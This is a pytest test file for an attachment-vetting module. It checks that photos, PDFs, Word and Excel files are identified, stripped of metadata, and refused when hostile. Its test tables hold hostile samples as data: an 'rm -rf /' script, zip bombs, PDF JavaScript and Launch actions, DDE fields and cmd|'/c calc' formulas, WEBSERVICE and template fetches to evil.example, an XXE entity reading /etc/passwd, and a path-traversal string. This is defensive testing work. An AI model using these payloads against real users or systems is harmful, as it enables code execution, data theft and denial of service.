"""What may be attached, told by its content: real small files, good and bad."""

from __future__ import annotations

import io
import os
import stat
import struct
import subprocess
import sys
import zipfile
import zlib
from datetime import datetime, timedelta
from pathlib import Path

import pikepdf
import pypdf
import pytest
import weasyprint
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from PIL import Image

from kinwork.files import apart
from kinwork.files.kinds import MOST, FileKind, Refused
from kinwork.files.looking import look
from kinwork.files.scanning import CannotScan, scan
from kinwork.files.store import Damaged, Store

MADE = Path(__file__).parent / "attached"
CONTENT_TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>{}</Types>"
RELATIONS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' "
    "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}' Target='{}' {}/></Relationships>"
)
EXTERNAL = "TargetMode='External'"


# -- small files of every kind


def picture(form: str, **more) -> bytes:
    """Forty by twenty dots, blue on the left half, with everything that a camera writes."""
    drawn = Image.new("RGB", (40, 20), (200, 30, 30))
    drawn.paste((20, 20, 220), (0, 0, 20, 20))
    out = io.BytesIO()
    drawn.save(out, form, **more)
    return out.getvalue()


def camera(turned: int = 1) -> bytes:
    said = Image.Exif()
    said[0x010F], said[0x0112] = "Nosy Camera 5", turned
    where = said.get_ifd(0x8825)
    where[1], where[2], where[3], where[4] = "N", (51.0, 30.0, 0.0), "W", (0.0, 7.0, 0.0)
    said[0x8825] = where
    return said.tobytes()


def pdf(change=lambda made: None, **how) -> bytes:
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        out = io.BytesIO()
        made.save(out, **how)
    return out.getvalue()


def script(made) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')")


def hidden_script(made) -> None:
    """Of a box on a page, inside a list inside a dictionary that has no number of its own."""
    keyed = pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.Stream(made, b"x()")))
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Widget, AA=keyed)])


def launch(made) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act))])


def embedded(made) -> None:
    made.attachments["evil.exe"] = b"MZ"


def link(made) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org")
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act)])


def office(main: str = "word/document.xml", types: str = "", **parts: str | bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", CONTENT_TYPES.format(types))
        made.writestr(main, "<w/>")
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def relations(kind: str, target: str) -> bytes:
    return office(**{"word/_rels/document.xml.rels": RELATIONS.format(kind, target, EXTERNAL)})


def field(*runs: str, around: str = "<w:p>{}</w:p>") -> bytes:
    """A field of Word, its code scattered over runs."""
    codes = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    turns = [f"<w:r><w:fldChar w:fldCharType='{one}'/></w:r>" for one in ("begin", "separate", "end")]
    code = turns[0] + codes + turns[1] + "<w:r><w:t>1</w:t></w:r>" + turns[2]
    return words(around.format(code))


def words(inside: str, name: str = "word/header1.xml") -> bytes:
    return office(**{name: f"<w:hdr xmlns:w='w' xmlns:v='v'>{inside}</w:hdr>"})


def twice(first: str, second: str) -> bytes:
    return office(**{first: "<a/>", second: "<a/>"})


def acts(kind: str, place: str = "Link", **more):
    """A PDF in which an action of a kind stands on a link, on an outline's line, after another, or at the opening."""

    def change(made) -> None:
        act = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more))
        if place == "OpenAction":
            made.Root.OpenAction = act
        elif place == "Outline":
            made.Root.Outlines = made.make_indirect(pikepdf.Dictionary(First=pikepdf.Dictionary(Title="x", A=act)))
        elif place == "Next":
            first = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=pikepdf.Array([act]))
            made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=first)])
        else:
            made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name("/" + place), A=act)])

    return pdf(change)


def by_itself(made) -> None:
    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0])))


def opens_at_page(made) -> None:
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def from_outside(**keys):
    """A stream whose content lies elsewhere."""

    def change(made) -> None:
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=pikepdf.Stream(made, b"", **keys)))

    return pdf(change)


def bomb() -> bytes:
    return office(**{"word/media/image1.png": bytes(260_000_000)})


def lying_bomb() -> bytes:
    """The list of contents says ten bytes of what becomes a gigabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(8_000_000)) for _ in range(40)) + packer.flush()
    name, main = b"word/document.xml", office()
    with zipfile.ZipFile(io.BytesIO(main)) as made:
        rest = [(one.filename.encode(), made.read(one)) for one in made.infolist() if one.filename != name.decode()]
    out, listed = bytearray(), bytearray()
    for which, content, size in [(name, packed, 10), *((one, b"", 0) for one, _ in rest)]:
        how = 8 if content else 0
        said = struct.pack("<HHHHHIIIHH", 20, 0, how, 0, 0, 0, len(content), size, len(which), 0)
        listed += b"PK\x01\x02" + struct.pack("<H", 20) + said + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + which
        out += b"PK\x03\x04" + said + which + content
    end = struct.pack("<HHHHIIH", 0, 0, 1 + len(rest), 1 + len(rest), len(listed), len(out), 0)
    return bytes(out + listed + b"PK\x05\x06" + end)


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def locked_office() -> bytes:
    """As Word locks a document: a compound file with the package inside."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)


def box(kind: bytes, *inside: bytes) -> bytes:
    return struct.pack(">I", 8 + len(b"".join(inside))) + kind + b"".join(inside)


def mp4(handler: bytes, brand: bytes = b"isom") -> bytes:
    track = box(b"trak", box(b"mdia", box(b"hdlr", bytes(8), handler, bytes(12))))
    return box(b"ftyp", brand, bytes(4)) + box(b"moov", track)


EBML = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm"
WAV = (
    b"RIFF\x2c\x00\x00\x00WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data\x08\0\0\0" + bytes(8)
)


def formula(said: str) -> bytes:
    sheet = f"<worksheet><sheetData><row><c r='A1'><f>{said}</f><v>1</v></c></row></sheetData></worksheet>"
    return office("xl/workbook.xml", **{"xl/worksheets/sheet1.xml": sheet})


GOOD = {
    FileKind.JPEG: [picture("JPEG"), picture("WEBP"), (MADE / "telephone.heic").read_bytes()],
    FileKind.PNG: [picture("PNG"), picture("GIF")],
    FileKind.PDF: [pdf(), pdf(link), pdf(opens_at_page), acts("GoTo", "OpenAction", D="chapter"),
                   acts("GoTo", "Outline"),
                   acts("Named", "Widget", N=pikepdf.Name.NextPage), acts("URI", URI="www.example.org"),
                   pdf(encryption=pikepdf.Encryption(owner="o", user=""))],
    FileKind.DOCX: [office(), relations("hyperlink", "https://example.org"),
                    relations("attachedTemplate", "file:///C:\\Templates\\Letter.dotm"),
                    relations("attachedTemplate", "Letter.dotx"),
                    relations("hyperlink", "MAILTO:a@b.example"),
                    office(**{"customXml/item1.xml": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")}),
                    field(" PAGE "), field(' HYPERLINK \\l "_Toc1" '),
                    field(' HYPERLINK "https://example.org/link/dde" '),
                    field(" REF Link1 "), office(**{"word/document.xml.txt": "IMPORT of LINK and DDE"})],
    FileKind.XLSX: [office("xl/workbook.xml"),
                    formula("SUM(A1:A3)&amp;&quot; | of &quot;&amp;'Our sheet'!B2"), formula("IMAGES!A1+CALLS(2)"),
                    formula("HYPERLINK(&quot;https://example.org&quot;)"),
                    office("xl/workbook.xml", **{"xl/sharedStrings.xml": "<sst><si><t>WEBSERVICE(1)</t></si></sst>"})],
    FileKind.TEXT: ["Dear Ńgwenya,\r\n\tthe boy < 5 was seen".encode(), "Dear Zoë, £5".encode("cp1252")],
    FileKind.WEBM: [EBML + b"\x86\x86A_OPUS"],
    FileKind.OGG: [b"OggS" + bytes(24) + b"OpusHead" + bytes(20)],
    FileKind.M4A: [mp4(b"soun", b"M4A "), mp4(b"soun")],
    FileKind.WAV: [WAV],
}  # fmt: skip
BAD = {
    "a program named .pdf": (b"MZ\x90\0" + bytes(200), "This is a program, whatever its name says"),
    "a program of Linux": (b"\x7fELF" + bytes(200), "This is a program"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "This is a program"),
    "a drawing with a script": (b"<svg xmlns='x'><script>alert(1)</script></svg>", "that can hold scripts"),
    "a drawing behind an XML head": (b"\xef\xbb\xbf<?xml version='1.0'?><svg/>", "web page or a drawing"),
    "a web page": (b"  <!DOCTYPE html><p>x", "web page"),
    "text with a script": (b"Dear all, <SCRIPT src=x></SCRIPT>", "web page"),
    "a zip bomb": (bomb(), "far larger when it is opened"),
    "a zip bomb that lies": (lying_bomb(), "far larger|damaged"),
    "macros": (office(**{"word/vbaProject.bin": b"x"}), "has macros"),
    "macros by type": (office(types="<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"),
                       "has macros"),
    "a program inside": (office(**{"word/embeddings/oleObject1.bin": b"x"}), "holds a program"),
    "a template from elsewhere": (relations("attachedTemplate", "https://evil.example/t.dotm"), "fetches something"),
    "an object from elsewhere": (relations("oleObject", "mhtml:https://evil.example/x!"), "fetches something"),
    "a template from another machine": (relations("attachedTemplate", "file://evil.example/t.dotm"), "fetches"),
    "entities": (office(**{"word/_rels/x.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), "damaged"),
    "a locked Word document": (locked_office(), "locked with a password"),
    "an old Word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), "of the old kind"),
    "a ZIP": (office("letter.txt").replace(b"[Content_Types].xml", b"readme-of-mine.text"), "Unpack it"),
    "half a Word document": (office()[:-30], "damaged"),
    "a PDF with a script": (pdf(script), "holds a script.*print it to PDF"),
    "a PDF with a script in a box": (pdf(hidden_script), "holds a script"),
    "a PDF with a script in packed objects": (
        pdf(hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "holds a script"),
    "a PDF that starts programs": (pdf(launch), "starts other programs"),
    "a PDF with files in it": (pdf(embedded), "holds other files"),
    "a locked PDF": (locked_pdf(), "locked with a password"),
    "half a PDF": (b"%PDF-1.7\nnothing more", "damaged"),
    "half a photo": (picture("JPEG")[:200], "damaged or not whole"),
    "no photo": (b"\xff\xd8\xff\xe0" + bytes(100), "damaged or not whole"),
    "a video": (mp4(b"vide") + mp4(b"soun"), "This is a video"),
    "a video of a browser": (EBML + b"\x86\x85V_VP8\x86\x86A_OPUS", "This is a video"),
    "a video of Windows": (b"RIFF\x2c\x00\x00\x00AVI " + bytes(60), "This is a video"),
    "nothing": (b"", "This file is empty"),
    "noise": (bytes(range(256)) * 20, "not kept here.*photos, PDF, Word"),
    "too much": (b"a" * (MOST + 1), "25 MB is the most"),
}  # fmt: skip


DOES, BY_ITSELF, ELSEWHERE = (
    "does more than lead to a page.*print it to PDF",
    "acts by itself",
    "fetched from elsewhere",
)
SPEC = pikepdf.Dictionary(F="\\\\evil.example\\share\\x")
BAD_PDF = {
    "something of a page at its opening": (pdf(by_itself), BY_ITSELF),
    "printing at the opening": (acts("Named", "OpenAction", N=pikepdf.Name.Print), BY_ITSELF),
    "an address at the opening": (acts("URI", "OpenAction", URI="https://evil.example"), DOES),
    "an address of a box": (acts("URI", "Widget", URI="https://evil.example"), DOES),
    "an address of an outline": (acts("URI", "Outline", URI="https://evil.example"), DOES),
    "an address after a page": (acts("URI", "Next", URI="https://evil.example"), DOES),
    "an address of a file": (acts("URI", URI="file://evil.example/x"), "a link into another file"),
    "an address of another machine": (acts("URI", URI="\\\\evil.example\\x"), "a link into another file"),
    "an address that is a script": (acts("URI", URI="java\nscript:x()"), "a link into another file"),
    "a page of another file at the opening": (acts("GoToR", "OpenAction", F=SPEC), "a link into another file"),
    "a page here that lies elsewhere": (acts("GoTo", F="x.pdf", D="x"), DOES),
    "a menu": (acts("Named", N=pikepdf.Name("/AcroForm:ImportFDF")), DOES),
    "an action that no one knows": (acts("Whatever"), DOES),
    "a content in another file": (from_outside(F="http://evil.example/x"), ELSEWHERE),
    "a content in a named file": (from_outside(F=SPEC), ELSEWHERE),
    "a page drawn from another file": (
        from_outside(Subtype=pikepdf.Name.Form, Ref=pikepdf.Dictionary(F=SPEC)), ELSEWHERE),
    "a name of a file": (acts("GoTo", D=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x")), ELSEWHERE),
    "a sound on a page": (acts("GoTo", "Sound"), "a film or sound"),
    "a script by another spelling": (pdf(script).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"),
                                     "a script"),
    **{f"{kind} {place}": (acts(kind, place), said) for place in ("Link", "Outline", "Next") for kind, said in {
        "GoToR": "a link into another file", "GoToE": "other files", "Thread": "a link into another file",
        "Movie": "a film", "Sound": "a film or sound", "Rendition": "a film", "ImportData": "fetches other data",
        "SubmitForm": "sends itself off", "Launch": "starts other programs", "JavaScript": "a script",
        "ResetForm": DOES, "Hide": DOES, "SetOCGState": DOES}.items()},
}  # fmt: skip
FORMULA = "has a formula that fetches something.*Paste special, Values"
MACROS, PROGRAMS, FETCHES = "has macros", "holds a program or another file", "fetches something from elsewhere"
ENTITY = "<?xml version='1.0' encoding='{}'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
MACRO_TYPE = CONTENT_TYPES.format("<Default ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/>")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)
DDE_LINK = "<externalLink xmlns:x='x'><x:{} ddeService='cmd' ddeTopic='/c calc'/></externalLink>"


def typed(types: bytes) -> bytes:
    """A Word document with other words about what is in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", types)
        made.writestr("word/document.xml", "<w/>")
    return out.getvalue()


BAD_OFFICE = {
    "macros in capitals": (office(**{"WORD/VBAPROJECT.BIN": b"x"}), MACROS),
    "macros by a number": (office(**{"word/%76baProject.bin": b"x"}), MACROS),
    "leads in capitals": (office(**{"word/_RELS/document.xml.RELS": RELATIONS.format("image", "http://x/", EXTERNAL)}),
                          FETCHES),
    "a part twice": (twice("word/header1.xml", "Word/Header1.XML"), "damaged"),
    "a part in pieces": (office(**{"word/x.xml/[0].piece": "<a/>"}), "damaged"),
    "a DTD in a part": (office(**{"word/header1.xml": ENTITY.format("utf-8")}), "damaged"),
    "a DTD in UTF-16": (office(**{"word/header1.xml": ENTITY.format("utf-16").encode("utf-16")}), "damaged"),
    "a DTD in UTF-16 the other way": (
        office(**{"word/header1.xml": b"\xfe\xff" + ENTITY.format("utf-16").encode("utf-16-be")}), "damaged"),
    "a DTD in UTF-16 without a mark": (
        office(**{"word/header1.xml": ENTITY.format("utf-16").encode("utf-16-le")}), "damaged"),
    "a DTD in a part of another name": (office(**{"word/header1.dat": ENTITY.format("utf-8")}), "damaged"),
    "XML in UTF-7": (office(**{"word/header1.xml": "<?xml version='1.0' encoding='utf-7'?><a/>"}), "damaged"),
    "XML in UTF-32": (office(**{"word/header1.xml": "<a/>".encode("utf-32")}), "damaged"),
    "macros by type in UTF-16": (typed(MACRO_TYPE.encode("utf-16")), MACROS),
    "macros by type by a number": (typed(MACRO_TYPE.encode()), MACROS),
    "a picture from elsewhere": (relations("image", "https://evil.example/x.png"), FETCHES),
    "a template on a share": (relations("attachedTemplate", "file:///\\\\evil.example\\t.dotm"), FETCHES),
    "a template on a share after a drive": (relations("attachedTemplate", "C:\\\\evil.example\\t.dotm"), FETCHES),
    "a lead that says it is inside": (
        office(**{"word/_rels/x.rels": RELATIONS.format("image", "\\\\evil.example\\x.png", "")}), FETCHES),
    **{f"a link to {target}": (relations("hyperlink", target), FETCHES) for target in (
        "file://evil.example/x", "\\\\evil.example\\x", "//evil.example/x", "javascript:x", "other.docx", "ms-word:x")},
    **{f"a lead to {kind}": (office(**{"word/_rels/x.rels": RELATIONS.format(kind, "x.bin", "")}), said)
       for kind, said in {
        "oleObject": PROGRAMS, "OLEOBJECT": PROGRAMS, "package": PROGRAMS, "aFChunk": PROGRAMS, "subDocument": PROGRAMS,
        "control": PROGRAMS, "vbaProject": MACROS, "attachedTemplate": FETCHES, "frame": FETCHES,
        "connections": FETCHES, "webextension": FETCHES}.items()},
    "a document inside": (office(**{"word/embeddings/Sheet1.xlsx": b"x"}), PROGRAMS),
    "a document inside, in capitals": (office(**{"word/Embeddings/x.dat": b"x"}), PROGRAMS),
    "a ZIP as a picture": (office(**{"word/media/image1.png": office()}), PROGRAMS),
    "an old document as a picture": (office(**{"word/media/image1.png": OLE}), PROGRAMS),
    **{f"the field {code}": (field(*code.split("|")), FETCHES) for code in (
        "DDE c d", " DDEAUTO c:\\x", " dd|eau|to c", "\u200b\"DDE\" c", "&#68;DE c", "INCLUDEPICTURE \"http://x\"",
        "Include|Text x", "IMPORT x", "LINK Excel.Sheet.8 x", "HYPERLINK \"file://evil.example/x\"",
        "HYPERLINK \\o \"http://a\" \"\\\\\\\\evil.example\\\\x\"", "HYPERLINK \\\\\\\\evil.example")},
    "a field over paragraphs": (field("D", "</w:instrText></w:r></w:p><w:p><w:r><w:instrText>DE c"), FETCHES),
    "a field in a field": (field(
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68"
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>D</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/>"
        "</w:r><w:r><w:instrText>DE c"), FETCHES),
    "a simple field": (words("<w:fldSimple w:instr=' DDEAUTO c '/>"), FETCHES),
    "a drawing of the old kind": (words("<v:imagedata src='http://evil.example/x'/>"), FETCHES),
    "a letter to many": (words("<w:mailMerge/>", "word/settings.xml"), FETCHES),
    "a link of Excel to a program": (
        office("xl/workbook.xml", **{"xl/externalLinks/externalLink1.xml": DDE_LINK.format("ddeLink")}), FETCHES),
    "a link of Excel to an object": (
        office("xl/workbook.xml", **{"xl/externalLinks/x.xml": DDE_LINK.format("oleLink").encode("utf-16")}), FETCHES),
    **{f"the formula {one}": (formula(one), FORMULA) for one in (
        "WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)", "_xlfn.WEBSERVICE(A1)", "1+_xlfn._xlws.webservice (A1)",
        "&#87;EBSERVICE(A1)", "WEB<!-- x -->SERVICE(A1)", "WEB<![CDATA[SERVICE(A1)]]>", "_xlfn.IMAGE(A1)",
        "'&quot;'!A1&amp;WEBSERVICE(A1)&amp;'&quot;'!A1", "RTD(&quot;x&quot;,,1)", "CALL(&quot;kernel32&quot;,1)",
        "cmd|'/c calc'!A0", "&quot;&quot;&amp;cmd|&apos;/c calc&apos;!A0", "DDEAPP|topic!item",
        "'\\\\evil.example\\[b.xlsx]S'!A1", "'https://evil.example/[b.xlsx]S'!A1")},
    "a name that fetches": (
        office("xl/workbook.xml", **{"xl/x.xml": "<a><definedName name='n'>WEBSERVICE(A1)</definedName></a>"}),
        FORMULA),
    "a colour that fetches": (
        office("xl/workbook.xml", **{
            "xl/x.xml": "<x:a xmlns:x='x'><x:formula a='&gt;>'>WEBSERVICE(A1)</x:formula></x:a>"}),
        FORMULA),
    "connections": (office("xl/workbook.xml", **{"xl/Connections.xml": "<a/>"}), FETCHES),
}  # fmt: skip


def looked(tmp_path: Path, content: bytes):
    file = tmp_path / "in"
    file.write_bytes(content)
    return look(file, tmp_path)


@pytest.mark.parametrize(("kind", "content"), [(kind, one) for kind, all_ in GOOD.items() for one in all_])
def test_what_is_let_in_is_told_by_its_content(tmp_path, kind, content):
    found = looked(tmp_path, content)
    assert found.kind is kind
    kept = found.file.read_bytes()
    if kind.is_picture:
        assert max(Image.open(found.small).size) <= 320
    else:
        assert kept == content, "what is no picture stays bit by bit"
        assert found.small is None


@pytest.mark.parametrize("what", BAD)
def test_what_is_not_let_in_is_refused_in_words_that_say_what_to_do(tmp_path, what):
    content, words = BAD[what]
    with pytest.raises(Refused, match=f"(?s){words}"):
        looked(tmp_path, content)


@pytest.mark.parametrize("what", BAD_PDF)
def test_a_pdf_that_fetches_or_runs_something_is_refused(tmp_path, what):
    content, said = BAD_PDF[what]
    with pytest.raises(Refused, match=f"(?s){said}"):
        looked(tmp_path, content)


@pytest.mark.parametrize("what", BAD_OFFICE)
def test_a_document_that_fetches_or_runs_something_is_refused(tmp_path, what):
    content, said = BAD_OFFICE[what]
    with pytest.raises(Refused, match=said):
        looked(tmp_path, content)


def test_a_letter_as_people_write_it_is_taken(tmp_path):
    """With a picture, a link, a table and a number of the page, as Word has them."""
    made = Document()
    made.add_heading("Letter", 1)
    made.add_picture(io.BytesIO(picture("PNG")))
    made.add_table(1, 2).cell(0, 0).text = "LINK worker; DDE; import"
    leads = made.part.relate_to("https://example.org/a", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    leading = OxmlElement("w:hyperlink")
    leading.set(qn("r:id"), leads)
    made.add_paragraph()._p.append(leading)
    counted = OxmlElement("w:fldSimple")
    counted.set(qn("w:instr"), " PAGE ")
    made.sections[0].footer.paragraphs[0]._p.append(counted)
    out = io.BytesIO()
    made.save(out)
    assert looked(tmp_path, out.getvalue()).kind is FileKind.DOCX


PRINTED = """<html><head><title>Letter</title><style>input { appearance: auto }</style></head><body><h1 id='a'>One</h1>
<p><a href='https://example.org'>web</a> <a href='mailto:a@b.example'>post</a> <a href='#b'>below</a></p>
<h2 id='b'>Two</h2><form><input name='x' value='y'><input type='checkbox' name='z'></form></body></html>"""


def test_a_pdf_with_an_outline_links_and_a_form_is_taken(tmp_path):
    printed = weasyprint.HTML(string=PRINTED).write_pdf(pdf_forms=True)
    assert looked(tmp_path, printed).kind is FileKind.PDF
    joined = pypdf.PdfWriter()
    joined.append(io.BytesIO(printed))
    joined.add_outline_item("Again", 0)
    joined.open_destination = pypdf.generic.Destination(
        "x", joined.pages[0].indirect_reference, pypdf.generic.Fit.fit()
    )
    out = io.BytesIO()
    joined.write(out)
    for part in (b"/Outlines", b"/AcroForm", b"/URI", b"/OpenAction"):
        assert part in out.getvalue()
    assert looked(tmp_path, out.getvalue()).kind is FileKind.PDF


@pytest.mark.parametrize("form", ["JPEG", "WEBP", "PNG"])
def test_a_photo_is_kept_upright_without_where_it_was_taken(tmp_path, form):
    taken = picture(form, exif=camera(turned=6), **({"comment": b"at 4 Alder Street"} if form == "JPEG" else {}))
    assert b"Nosy Camera" in taken
    found = looked(tmp_path, taken + b"<script>behind the picture</script>")
    kept = found.file.read_bytes()
    for told in (b"Nosy", b"Exif", b"Alder", b"script", b"eXIf"):
        assert told not in kept
        assert told not in found.small.read_bytes()
    with Image.open(found.file) as drawn:
        assert not drawn.getexif()
        assert drawn.size == (20, 40), "turned as it was held"
        assert drawn.convert("RGB").getpixel((10, 5))[2] > 150, "what was left is at the top"


def test_a_telephones_photo_becomes_jpeg_without_where_it_was_taken(tmp_path):
    assert b"Secret Camera" in (MADE / "telephone.heic").read_bytes()
    found = looked(tmp_path, (MADE / "telephone.heic").read_bytes())
    kept = found.file.read_bytes()
    assert kept.startswith(b"\xff\xd8\xff")
    assert b"Secret" not in kept
    with Image.open(found.file) as drawn:
        assert (drawn.size, dict(drawn.getexif())) == ((48, 64), {})


def test_a_picture_of_too_many_dots_is_not_drawn(tmp_path):
    head = b"IHDR" + struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    rows = b"IDAT" + zlib.compress(bytes(1000))
    chunks = (
        struct.pack(">I", len(one) - 4) + one + struct.pack(">I", zlib.crc32(one)) for one in (head, rows, b"IEND")
    )
    with pytest.raises(Refused, match=r"too many dots|million dots"):
        looked(tmp_path, b"\x89PNG\r\n\x1a\n" + b"".join(chunks))


def test_it_is_looked_at_in_a_process_apart_that_may_not_take_much(tmp_path, monkeypatch):
    (tmp_path / "in").write_bytes(picture("JPEG", exif=camera()))
    kind, kept, small = apart.look_apart(tmp_path / "in", tmp_path)
    assert (kind, small is not None) == (FileKind.JPEG, True)
    assert b"Nosy" not in kept.read_bytes()
    (tmp_path / "in").write_bytes(pdf(script))
    with pytest.raises(Refused, match="holds a script"):
        apart.look_apart(tmp_path / "in", tmp_path)
    monkeypatch.setattr(apart, "SAYS", "from kinwork.files.apart import main; import sys; main(); sys.exit(3)")
    with pytest.raises(Refused, match="takes too much"):
        apart.look_apart(tmp_path / "in", tmp_path)
    monkeypatch.setattr(apart, "SAYS", "while True: pass")
    monkeypatch.setattr(apart, "WITHIN", 0.5)
    with pytest.raises(Refused, match="takes too much"):
        apart.look_apart(tmp_path / "in", tmp_path)


# -- where it is kept


def test_the_same_content_is_kept_once_and_no_one_else_on_the_machine_reads_it(tmp_path):
    store = Store(tmp_path / "files")
    first, again = store.put(io.BytesIO(b"a letter")), store.put(io.BytesIO(b"a letter"))
    assert first == again
    assert [one[:2] for one in store.all()] == [(first.sha256, 8)]
    assert store.read(first.sha256) == b"a letter"
    assert stat.S_IMODE(store.path_of(first.sha256).stat().st_mode) == 0o600
    assert not list((tmp_path / "files" / "incoming").iterdir())
    with pytest.raises(ValueError, match="no"):
        store.path_of("../../etc/passwd")


CRASHES = """
import io, os, sys
from pathlib import Path
from kinwork.files.store import Store
class Cut(io.BytesIO):
    def read(self, size=-1):
        if self.tell() >= 3_000_000:
            os._exit(9)
        return super().read(1_000_000)
Store(Path(sys.argv[1])).put(Cut(b"x" * 5_000_000))
"""


def test_a_crash_in_the_middle_leaves_nothing_that_looks_whole(tmp_path):
    store = Store(tmp_path)
    died = subprocess.run([sys.executable, "-c", CRASHES, str(tmp_path)], check=False)
    assert died.returncode == 9
    assert list(store.all()) == []
    assert len(list((tmp_path / "incoming").iterdir())) == 1
    now = datetime.now().astimezone()
    assert store.sweep(now - timedelta(hours=1)) == 0, "somebody may be sending it just now"
    assert store.sweep(now + timedelta(hours=1)) == 1
    assert store.put(io.BytesIO(b"x" * 5_000_000)).size == 5_000_000


def test_a_crash_before_the_name_is_given_leaves_nothing(tmp_path, monkeypatch):
    def cut(self, target):
        raise OSError("the power went")

    store = Store(tmp_path)
    monkeypatch.setattr(Path, "replace", cut)
    with pytest.raises(OSError, match="power"):
        store.put(io.BytesIO(b"a letter"))
    assert list(store.all()) == []


def test_what_the_disk_has_spoiled_is_not_given_out_and_is_mended_by_the_same_again(tmp_path):
    store = Store(tmp_path)
    blob = store.put(io.BytesIO(b"a letter"))
    store.path_of(blob.sha256).write_bytes(b"a lettar")
    with pytest.raises(Damaged):
        store.read(blob.sha256)
    store.put(io.BytesIO(b"a letter"))
    assert store.read(blob.sha256) == b"a letter"


# -- the authority's scanner


def scanner(tmp_path, ends: str) -> str:
    program = tmp_path / "scanner"
    program.write_text(f'#!/bin/sh\nif grep -q EICAR "$2"; then exit 1; fi\n{ends}\n')
    program.chmod(0o755)
    return f"{program} --quiet"


def test_the_scanner_says_clean_found_or_cannot(tmp_path, monkeypatch):
    file = tmp_path / "file"
    file.write_bytes(b"a letter")
    scan("", file)
    scan(scanner(tmp_path, "exit 0"), file)
    for cannot in (scanner(tmp_path, "exit 2"), "/no/such/scanner", "an 'open quote"):
        with pytest.raises(CannotScan):
            scan(cannot, file)
    monkeypatch.setattr("kinwork.files.scanning.WITHIN", 0.2)
    with pytest.raises(CannotScan):
        scan(scanner(tmp_path, "exec sleep 5"), file)
    file.write_bytes(b"EICAR")
    with pytest.raises(Refused, match="virus scanner found something"):
        scan(scanner(tmp_path, "exit 0"), file)


def test_a_process_apart_knows_no_settings_and_no_database():
    said = subprocess.run(
        [sys.executable, "-c", "import sys, kinwork.files.looking; print({'django', 'psycopg'} & set(sys.modules))"],
        capture_output=True, text=True, check=True, env={"PATH": os.environ["PATH"]},
    )  # fmt: skip
    assert said.stdout.strip() == "set()"
